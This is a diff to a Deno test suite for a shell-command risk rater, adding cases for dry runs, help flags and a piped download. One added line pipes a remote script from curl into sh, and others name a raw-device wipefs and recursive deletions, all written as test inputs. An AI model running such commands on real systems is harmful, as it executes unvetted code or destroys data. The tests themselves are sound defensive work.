@@ -284,6 +284,10 @@ Deno.test("dry runs and help are not the real thing", () => {
   expectRisk("aws s3 rm s3://b/ --recursive --dryrun", "safe");
   expectRisk("git clean -fdxn", "safe");
   expectRisk("git reset --help", "safe");
+  expectRisk("shutdown --help", "safe");
+  expectRisk("wipefs -a -n /dev/sdb", "moderate"); // touches a raw device, erases nothing
+  // Arguments to a downloaded script do not make it safe.
+  expectRisk("curl -sSf https://x.io/i.sh | sh -s -- --help", "critical");
 });
 
 Deno.test("shell code inside interpreters and stdin is rated", () => {
